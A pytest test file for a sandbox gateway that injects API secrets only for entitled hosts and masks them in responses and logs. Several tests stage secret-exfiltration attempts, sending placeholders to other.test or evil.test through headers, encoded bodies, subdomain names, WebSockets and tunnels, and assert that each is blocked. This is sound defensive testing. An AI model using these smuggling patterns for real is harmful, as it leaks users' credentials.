"""Secrets on the wire: the far side gets the value, the sandbox and the record never do."""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import socket
import ssl
import zlib
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from sandtrail.collector.gateway.returns import written_forms
from sandtrail.collector.secrets import Secret, make_secret
from tests.collector.gateway.harness import Gateway, Recorded, body, wait_for
from tests.collector.gateway.test_hostile import dial
from tests.collector.gateway.test_tunnels import tunnel, websocket_echo
from tests.collector.gateway.upstream import Handler, Server

Clients = Callable[..., httpx.Client]
VALUE = "sk-proj-a1B2+/=c3D4-e5F6"


@pytest.fixture
def secret() -> Secret:
    return make_secret("API_KEY", VALUE, ["api.test"])


@pytest.fixture
def via(gateway: Gateway, session: str, server: Server, client: Clients, secret: Secret) -> httpx.Client:
    """A client of a sandbox that has a secret for api.test; everything is mapped to the one server."""
    hosts = ("api.test", "other.test")
    return client(gateway.listen(session, secrets=[secret], upstream=dict.fromkeys(hosts, server.url)))


def everything(recorded: Recorded) -> bytes:
    """A session's frames as they would be read."""
    text = json.dumps([recorded.opened, recorded.frames, recorded.notes], default=str).encode()
    return text + b"".join(body(f, key) for f in recorded.frames for key in ("body", "data") if f.get(key))


def echo(handler: Handler) -> None:
    said = json.dumps(
        {"headers": dict(handler.headers.items()), "path": handler.path, "body": handler.server.asked[-1].body.decode()}
    )
    handler.answer(said.encode(), x_echo=handler.headers.get("authorization", ""))


def test_the_value_goes_out_and_does_not_come_back(
    gateway: Gateway, session: str, server: Server, via: httpx.Client, secret: Secret
) -> None:
    held = secret.placeholder
    server.routes["/echo"] = echo
    pair = base64.b64encode(f"me:{VALUE}".encode()).decode()
    for scheme in ("http", "https"):
        answer = via.post(
            f"{scheme}://api.test/echo?api_key={held}&q={held}",
            json={"token": held, "prompt": held},
            headers={"authorization": f"Bearer {held}"},
        )
        asked = server.asked[-1]
        assert asked.headers["authorization"] == f"Bearer {VALUE}"
        assert asked.path == f"/echo?api_key={quote(VALUE, safe='')}&q={held}"
        assert json.loads(asked.body) == {"token": VALUE, "prompt": held}
        assert int(asked.headers["Content-Length"]) == len(asked.body)
        assert answer.headers["x-echo"] == f"Bearer {held}"
        assert json.loads(json.loads(answer.text)["body"]) == {"token": held, "prompt": held}
        via.get(f"{scheme}://api.test/echo", auth=("me", held))
        assert server.asked[-1].headers["Authorization"] == f"Basic {pair}"
        for form in written_forms(VALUE.encode()):
            assert form not in answer.content
    recorded = gateway.ended(session)
    first = recorded.of("request")[0]
    fingerprint = recorded.opened["secrets"][0]["fingerprint"]
    assert recorded.opened["secrets"] == [{"name": "API_KEY", "hosts": ["api.test"], "fingerprint": fingerprint}]
    common = {"secret": "API_KEY", "fingerprint": fingerprint, "host": "api.test"}
    assert first["secrets"] == [
        {**common, "in": "header", "at": "authorization"},
        {**common, "in": "query", "at": "api_key"},
        {**common, "in": "body", "at": "token"},
    ]
    assert first["url"].count(f"{{{{credential:api-key:{fingerprint}}}}}") == 2, "one mark for placeholder and value"
    written = everything(recorded)
    for form in [*written_forms(VALUE.encode()), held.encode(), secret.core.encode()]:
        assert form not in written


@pytest.mark.parametrize("coding", ["", "gzip", "deflate"])
def test_a_streamed_answer_is_searched_as_it_passes(
    gateway: Gateway, session: str, server: Server, via: httpx.Client, secret: Secret, coding: str
) -> None:
    def stream(handler: Handler) -> None:
        said = f"data: {handler.headers['x-key']}\n\n".encode() * 3
        coded = gzip.compress(said) if coding == "gzip" else zlib.compress(said) if coding else said
        extra = {"content_encoding": coding} if coding else {}
        handler.head(content_type="text/event-stream", transfer_encoding="chunked", **extra)
        for at in range(0, len(coded), 5):
            handler.chunk(coded[at : at + 5])
        handler.chunk(b"")

    server.routes["/events"] = stream
    got = via.get("https://api.test/events", headers={"x-key": secret.placeholder, "accept-encoding": "gzip"})
    assert got.text == f"data: {secret.placeholder}\n\n" * 3
    assert server.asked[-1].headers["accept-encoding"] == "identity"
    assert VALUE.encode() not in everything(gateway.ended(session))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("AAAA/BBBB/CCCC", r"AAAA\/BBBB\/CCCC"),
        ("AAAA<BBBB&CCCC", r"AAAA\u003cBBBB\u0026CCCC"),
        ("AAAA<BBBB&CCCC", "AAAA&lt;BBBB&amp;CCCC"),
        ("AAAA+BBBB/CCCC", "AAAA%252BBBBB%252FCCCC"),
    ],
)
def test_what_a_server_makes_of_a_values_signs_is_known(value: str, written: str) -> None:
    assert written.encode() in written_forms(value.encode())


def test_a_value_does_not_come_back_as_the_name_of_a_header(
    gateway: Gateway, session: str, server: Server, client: Clients
) -> None:
    plain = make_secret("PLAIN_KEY", "a1b2c3d4e5f6a7b8", ["api.test"])
    via = client(gateway.listen(session, secrets=[plain], upstream={"api.test": server.url}))
    server.routes["/echo"] = lambda h: h.answer(b"", 200, **{f"x-{h.headers['x-key']}": "1"})
    answer = via.get("https://api.test/echo", headers={"x-key": plain.placeholder})
    assert answer.headers[f"x-{plain.placeholder}"] == "1"
    assert plain.value.encode() not in everything(gateway.ended(session))


def test_a_server_of_http_1_0_may_echo_too(server: Server, via: httpx.Client, secret: Secret) -> None:
    def old(handler: Handler) -> None:
        handler.protocol_version = "HTTP/1.0"
        handler.responses = {200: (handler.headers["x-key"], "")}
        handler.answer(handler.headers["x-key"].encode())
        handler.close_connection = True

    server.routes["/old"] = old
    for method in ("GET", "HEAD"):
        got = via.request(method, "http://api.test/old", headers={"x-key": secret.placeholder})
        assert got.text == (secret.placeholder if method == "GET" else "")
        assert got.reason_phrase == secret.placeholder


def _basic(held: str) -> str:
    return "Basic " + base64.b64encode(f"a:{held}".encode()).decode()


ELSEWHERE: dict[str, Callable[[str], dict[str, Any]]] = {
    "header": lambda held: {"headers": {"x-note": held}},
    "header, basic": lambda held: {"headers": {"authorization": _basic(held)}},
    "header, upper case": lambda held: {"headers": {"cookie": f"a={held.upper()}"}},
    "url": lambda held: {"params": {"q": held}},
    "url, hexadecimal": lambda held: {"params": {"q": quote(held[-32:].encode().hex())}},
    "body": lambda held: {"content": f"some text with {held} in it"},
    "body, gzip": lambda held: {"content": gzip.compress(held.encode()), "headers": {"content-encoding": "gzip"}},
    "body, base64": lambda held: {"content": base64.b64encode(b"xy" + held.encode())},
    "body, percent": lambda held: {"json": {"token": "".join(f"%{ord(c):02x}" for c in held)}},
    "body, in pieces": lambda held: {"content": iter([b"piece ", held[:30].encode(), held[30:].encode(), b" rest"])},
}


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("where", ELSEWHERE)
def test_a_placeholder_for_another_host_is_stopped(
    gateway: Gateway, session: str, server: Server, via: httpx.Client, secret: Secret, scheme: str, where: str
) -> None:
    told = ELSEWHERE[where](secret.placeholder)
    streamed = isinstance(told.get("content"), Iterator)
    try:
        assert via.post(f"{scheme}://other.test/x", **told).status_code == 403
    except httpx.HTTPError:
        assert streamed, "only of a body that is on its way the connection is cut"
    assert not any(secret.core.encode() in asked.body for asked in server.asked)
    assert streamed or server.asked == []
    recorded = gateway.ended(session)
    error = recorded.one("error", reason="exfiltration")
    assert (error["secret"], error["in"], error["host"]) == ("API_KEY", where.partition(",")[0], "other.test")
    assert error["fingerprint"] == recorded.opened["secrets"][0]["fingerprint"]
    assert error["id"] == recorded.one("request").get("id") if not streamed else error["id"]
    written = everything(recorded)
    for form in (secret.placeholder, secret.core, secret.core.upper(), VALUE):
        assert form.encode() not in written


def test_nor_does_it_go_out_in_the_name_of_a_host(
    gateway: Gateway, session: str, via: httpx.Client, secret: Secret
) -> None:
    core = secret.core
    for scheme in ("http", "https"):
        for host in (f"{core}.evil.test", f"{core[:16]}.{core[16:]}.api.test", f"{core}.api.test".upper()):
            if scheme == "http":
                assert via.get(f"{scheme}://{host}/").status_code == 403
            else:
                with pytest.raises(httpx.ProxyError, match="403"):
                    via.get(f"{scheme}://{host}/")
    via.get("https://api.test/", headers={"host": f"{core}.evil.test"})
    recorded = gateway.ended(session)
    errors = recorded.of("error", reason="exfiltration")
    assert [error["in"] for error in errors] == ["host"] * 7
    assert core.encode() not in everything(recorded).lower()


def test_nor_to_a_host_header_that_is_not_entitled(server: Server, via: httpx.Client, secret: Secret) -> None:
    answer = via.get("https://api.test/", headers={"host": "other.test", "x-key": secret.placeholder})
    assert answer.status_code == 403
    assert server.asked == []


@pytest.mark.needs("root", "ip")
def test_nor_over_plain_http_nor_in_a_tunnel(neighbourly: Gateway, neighbour: str, session: str) -> None:
    secret = make_secret("API_KEY", VALUE, [neighbour])
    proxy = neighbourly.listen(session, secrets=[secret])
    with httpx.Client(proxy=proxy) as via:
        assert via.get(f"http://{neighbour}:8080/").text == "neighbour"
        assert via.get(f"http://{neighbour}:8080/", headers={"x-key": secret.placeholder}).status_code == 403
    ours = ssl.create_default_context(cafile=str(neighbourly.home / "gateway" / "mitmproxy-ca-cert.pem"))
    with httpx.Client(proxy=proxy, verify=ours) as via:
        # There is no TLS there, so the value never leaves; but for the same host over TLS it would have.
        answer = via.get(f"https://{neighbour}:8080/", headers={"x-key": secret.placeholder})
        assert answer.status_code == 502
    with tunnel(proxy, f"{neighbour}:2222") as raw:
        raw.sendall(b"SSH-2.0-client\r\n")
        assert raw.recv(4096)
        raw.sendall(secret.placeholder[:20].encode())
        raw.sendall(secret.placeholder[20:].encode())
        echoed = b""
        while data := raw.recv(4096):
            echoed += data
        assert secret.core.encode() not in echoed
    wait_for(lambda: neighbourly.recorded(session).of("tcp", end=True), "the tunnel's end")
    recorded = neighbourly.ended(session)
    assert [error["in"] for error in recorded.of("error", reason="exfiltration")] == ["header", "tunnel"]
    (asked,) = [request for request in recorded.of("request") if "secrets" in request]
    assert asked["url"].startswith("https://")


def test_nor_in_a_websocket(gateway: Gateway, session: str, secret: Secret) -> None:
    with websocket_echo() as port:
        base = f"http://127.0.0.1:{port}"
        proxy = gateway.listen(session, secrets=[secret], upstream={"api.test": base, "other.test": base})
        with connect("ws://api.test/", proxy=proxy, additional_headers={"x-key": secret.placeholder}) as own:
            own.send(VALUE)
            assert own.recv() == secret.placeholder, "a value that comes back is replaced in messages too"
            own.send(f"my conversation: {secret.placeholder}")
            assert secret.placeholder in str(own.recv()), "to its own host a placeholder is no news"
        with connect("ws://other.test/", proxy=proxy) as other:
            other.send("harmless")
            assert other.recv() == "harmless"
            other.send(f"the key is {secret.placeholder}")
            with pytest.raises(ConnectionClosed):
                other.recv()
        recorded = gateway.ended(session)
    error = recorded.one("error", reason="exfiltration")
    assert (error["in"], error["host"]) == ("websocket", "other.test")
    assert recorded.of("request")[0]["secrets"][0]["at"] == "x-key"
    written = everything(recorded)
    assert VALUE.encode() not in written
    assert secret.core.encode() not in written


def test_a_long_message_with_a_value_comes_back_in_the_letters_that_it_had(
    gateway: Gateway, session: str, secret: Secret
) -> None:
    with websocket_echo() as port:
        proxy = gateway.listen(session, secrets=[secret], upstream={"api.test": f"http://127.0.0.1:{port}"})
        # The echo stands for a server that was told the value before, in a request of another kind.
        with connect("ws://api.test/", proxy=proxy) as own:
            for before in ("x", "xx"):  # one of them has a letter at every even place
                own.send(before + VALUE + "é" * 5000)
                assert own.recv() == before + secret.placeholder + "é" * 5000


@pytest.mark.parametrize("where", ["ping", "pong", "close", "two messages"])
def test_nor_in_what_a_websocket_has_besides_messages(
    gateway: Gateway, session: str, secret: Secret, where: str
) -> None:
    held = secret.placeholder
    with websocket_echo() as port:
        proxy = gateway.listen(session, secrets=[secret], upstream={"other.test": f"http://127.0.0.1:{port}"})
        with connect("ws://other.test/", proxy=proxy) as other:
            if where == "close":
                other.close(4000, held)
            elif where == "two messages":
                for part in (held[:40], held[40:]):
                    other.send(part)
            else:
                getattr(other, where)(held)
            with pytest.raises(ConnectionClosed):
                while True:
                    assert held[40:] not in str(other.recv(10))
        recorded = gateway.ended(session)
    assert recorded.one("error", reason="exfiltration")["in"] == "websocket"
    assert secret.core.encode() not in everything(recorded)


def test_a_value_does_not_come_back_in_a_control_frame_or_behind_an_upgrade(
    gateway: Gateway, session: str, server: Server, secret: Secret
) -> None:
    def upgrade(handler: Handler) -> None:
        handler.head(101, upgrade=handler.headers["upgrade"], connection="upgrade", x_key=handler.headers["x-key"])
        value = handler.headers["x-key"].encode()
        if handler.headers["upgrade"] == "websocket":
            handler.wfile.write(bytes([0x89, len(value)]) + value)
        else:
            handler.wfile.write(b"<" + value + b">")
        handler.rfile.read(1)
        handler.close_connection = True

    server.routes["/up"] = upgrade
    proxy = gateway.listen(session, secrets=[secret], upstream={"api.test": server.url})
    got = {}
    for protocol in ("websocket", "raw"):
        with dial(proxy) as raw:
            head = f"Host: api.test\r\nX-Key: {secret.placeholder}\r\nConnection: upgrade\r\nUpgrade: {protocol}\r\n"
            raw.sendall(f"GET http://api.test/up HTTP/1.1\r\n{head}Sec-WebSocket-Version: 13\r\n\r\n".encode())
            got[protocol] = b""
            with contextlib.suppress(ConnectionError):
                while not got[protocol].endswith(b">") and (data := raw.recv(4096)):
                    got[protocol] += data
    assert server.asked[-1].headers["X-Key"] == VALUE
    assert got["raw"].endswith(b"<" + secret.placeholder.encode() + b">")
    assert got["websocket"].endswith(b"\r\n\r\n"), "a control frame is dropped, with what comes behind it"
    assert VALUE.encode() not in b"".join(got.values())
    assert VALUE.encode() not in everything(gateway.ended(session))


def test_a_denied_request_with_a_placeholder_is_both(
    gateway: Gateway, session: str, server: Server, client: Clients, secret: Secret
) -> None:
    rules = {"allow": ["GET api.test/models*"]}
    via = client(gateway.listen(session, secrets=[secret], upstream={"api.test": server.url}, rules=rules))
    held = {"authorization": f"Bearer {secret.placeholder}"}
    assert via.post("https://api.test/admin", headers=held).status_code == 403
    assert via.post("https://evil.test/", content=secret.placeholder).status_code == 403
    assert server.asked == []
    via.get("https://api.test/models", headers=held)
    assert server.asked[0].headers["authorization"] == f"Bearer {VALUE}"
    denied, attempted = gateway.ended(session).of("error")
    assert (denied["reason"], denied["rule"]) == ("denied", None)
    assert "secret" not in denied, "it is for that host; only this request was not allowed"
    assert (attempted["reason"], attempted["secret"], len(attempted["rules"])) == ("exfiltration", "API_KEY", 64)


def test_a_secret_for_one_host_is_not_for_another(
    gateway: Gateway, session: str, server: Server, client: Clients, secret: Secret
) -> None:
    other = make_secret("OTHER", "correct-horse-9-battery", ["other.test"])
    hosts = dict.fromkeys(("api.test", "other.test"), server.url)
    via = client(gateway.listen(session, secrets=[secret, other], upstream=hosts))
    assert via.get("https://other.test/", headers={"x-key": secret.placeholder}).status_code == 403
    assert via.get("https://other.test/", headers={"x-key": other.placeholder}).status_code == 404
    assert server.asked[0].headers["x-key"] == other.value


def test_a_large_upload_with_a_placeholder_at_its_end_is_cut_off_before_it(
    gateway: Gateway, session: str, server: Server, client: Clients, secret: Secret
) -> None:
    limits = {"request_body": 100_000}
    via = client(gateway.listen(session, secrets=[secret], upstream={"other.test": server.url}, limits=limits))
    with pytest.raises(httpx.HTTPError):
        via.post("https://other.test/", content=b"x" * 900_000 + secret.placeholder.encode())
    recorded = gateway.ended(session)
    assert recorded.one("error", reason="exfiltration")["in"] == "body"
    assert not any(secret.core.encode() in asked.body for asked in server.asked)


def test_trailers_are_looked_at(gateway: Gateway, session: str, server: Server, secret: Secret) -> None:
    proxy = urlsplit(gateway.listen(session, secrets=[secret], upstream={"other.test": server.url}))
    with socket.create_connection((str(proxy.hostname), proxy.port or 0), timeout=10) as raw:
        raw.sendall(b"POST http://other.test/ HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\n\r\n")
        raw.sendall(b"1\r\nx\r\n0\r\nx-trailer: " + secret.placeholder.encode() + b"\r\n\r\n")
        while raw.recv(4096):
            pass
    recorded = gateway.ended(session)
    assert not any(secret.core in str(asked) for asked in server.asked)
    assert secret.core.encode() not in everything(recorded)


def test_secrets_that_do_not_match_their_description_are_refused(
    gateway: Gateway, session: str, secret: Secret
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        for described in ([{"name": "X", "hosts": ["api.test"]}], [{"name": "API_KEY", "hosts": ["*"]}]):
            message = {"op": "listen", "session": session, "descriptor": {"secrets": described}}
            answer = gateway.ask(message, (listener.fileno(),))
            assert answer["ok"] is False
            assert VALUE not in json.dumps(answer)


def test_a_client_that_pins_gets_nothing(gateway: Gateway, session: str, secret: Secret, server: Server) -> None:
    """What cannot be looked into gets no value: the client that does not trust us never sends a request."""
    proxy = gateway.listen(session, secrets=[secret], upstream={"api.test": server.url})
    with httpx.Client(proxy=proxy, verify=ssl.create_default_context()) as via, pytest.raises(httpx.ConnectError):
        via.get("https://api.test/", headers={"x-key": secret.placeholder})
    assert server.asked == []
    assert gateway.ended(session).one("tls")["established"] is False
